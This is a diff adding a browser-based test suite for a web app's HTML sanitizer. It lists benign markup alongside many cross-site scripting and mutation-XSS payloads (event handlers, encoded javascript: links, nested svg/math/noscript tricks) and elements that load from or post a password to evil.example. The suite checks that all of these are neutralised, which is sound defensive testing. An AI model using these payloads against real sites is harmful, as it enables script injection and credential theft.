@@ -1,0 +1,106 @@
+import { readFile } from 'node:fs/promises';
+import { transform } from 'esbuild';
+import type { Browser, Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { launchBrowser } from '../../e2e/browser.ts';
+
+/** What is safe is for a browser's own parser to say: an imitation of one would test the imitation. */
+let browser: Browser;
+let page: Page;
+
+beforeAll(async () => {
+  browser = await launchBrowser();
+  page = await browser.newPage();
+  const source = await readFile(new URL('../../../web/ui/sanitize.ts', import.meta.url), 'utf8');
+  const { code } = await transform(source, { loader: 'ts', format: 'iife', globalName: 'safe' });
+  await page.addScriptTag({ content: `${code};globalThis.safe = safe;` });
+});
+
+afterAll(() => browser.close());
+
+const sanitize = (html: string) =>
+  page.evaluate(
+    (text) => (globalThis as unknown as { safe: { sanitize(html: string): string } }).safe.sanitize(text),
+    html,
+  );
+
+/** Shows sanitised HTML in a page, and tells whether any of it ran or asked the network for something. */
+async function attacks(html: string): Promise<boolean> {
+  const target = await browser.newPage();
+  let reached = false;
+  await target.route('**', (route) => {
+    reached ||= !route.request().url().endsWith('/picture.jpg');
+    return route.fulfill({ status: 404 });
+  });
+  await target.exposeFunction('attacked', () => (reached = true));
+  await target.setContent(`<div id="content">${await sanitize(html)}</div>`);
+  await target.locator('a').evaluateAll((links) => links.forEach((link) => (link as HTMLElement).click()));
+  await target.close();
+  return reached;
+}
+
+describe('sanitize', () => {
+  it.each([
+    '<p>Words, <em>stressed</em> and <strong>strong</strong>.</p>',
+    '<h2>Winners</h2><ul><li>One</li><li>Two</li></ul><hr>',
+    '<table><thead><tr><th scope="col">Category</th></tr></thead><tbody><tr><td colspan="2">x</td></tr></tbody></table>',
+    '<p lang="hi">प्रपंच पाश</p>',
+    '<p><a href="/gayvnawards/rules">Rules</a> <a href="mailto:hello@example.org">Mail</a></p>',
+  ])('leaves %s as it is', async (html) => {
+    expect(await sanitize(html)).toBe(html);
+  });
+
+  it.each([
+    ['<p onclick="attacked()">a</p>', '<p>a</p>'],
+    ['<p style="position:fixed">a</p>', '<p>a</p>'],
+    ['<script>attacked()</script><p>a</p>', '<p>a</p>'],
+    ['<a href="javascript:attacked()">a</a>', '<a>a</a>'],
+    ['<a href=" java\nscript:attacked()">a</a>', '<a>a</a>'],
+    ['<a href="data:text/html,x">a</a>', '<a>a</a>'],
+    ['<font color="red">a <b>b</b></font>', 'a <b>b</b>'],
+    ['<form action="https://evil.example"><input name="password"></form>', ''],
+    ['<iframe srcdoc="<script>attacked()</script>"></iframe>', ''],
+    ['<!-- a comment --><p>a</p>', '<p>a</p>'],
+    ['<p id="cookie">a</p>', '<p id="content-cookie">a</p>'],
+    ['<a href="#rules">a</a>', '<a href="#content-rules">a</a>'],
+    [
+      '<a href="https://example.org" target="_blank">a</a>',
+      '<a href="https://example.org" target="_blank" rel="noopener noreferrer">a</a>',
+    ],
+    ['<a href="/x" target="frame">a</a>', '<a href="/x">a</a>'],
+    ['<img src="picture.jpg">', '<img src="picture.jpg" loading="lazy" alt="">'],
+  ])('turns %s into %s', async (html, clean) => {
+    expect(await sanitize(html)).toBe(clean);
+  });
+
+  it.each([
+    '<img src="picture.jpg" onerror="attacked()">',
+    '<svg><script>attacked()</script></svg>',
+    '<svg><animate onbegin="attacked()" attributeName="x" dur="1s">',
+    '<math><mtext><table><mglyph><style><img src=x onerror="attacked()"></style></mglyph></table></mtext></math>',
+    '<form><math><mtext></form><form><mglyph><style></math><img src onerror="attacked()">',
+    '<noscript><p title="</noscript><img src=x onerror=attacked()>"></noscript>',
+    '<template><img src=x onerror="attacked()"></template>',
+    '<p title="--><img src=x onerror=attacked()>">a</p>',
+    '<table><td><script>attacked()</script></td></table>',
+    '<a href="&#106;avascript:attacked()">a</a>',
+    '<a href="https:javascript:attacked()//%0aattacked()" onfocus="attacked()" autofocus>a</a>'.replace(
+      'https:',
+      '',
+    ),
+    '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">',
+    '<style>@import "https://evil.example/x.css"</style>',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+    '<object data="https://evil.example"></object><embed src="https://evil.example">',
+    '<xmp><img src=x onerror="attacked()"></xmp><plaintext><img src=x onerror="attacked()">',
+    '<select><template><img src=x onerror="attacked()"></template></select>',
+    '<img srcset="javascript:attacked() 1x" src="picture.jpg">',
+  ])('runs nothing of %s', async (html) => {
+    expect(await attacks(html)).toBe(false);
+  });
+
+  it('gives the same again when it is given its own answer, ids aside', async () => {
+    const clean = await sanitize('<div><p>a<font>b</font></p><svg></svg><ul><li>c</ul></div>');
+    expect(await sanitize(clean)).toBe(clean);
+  });
+});
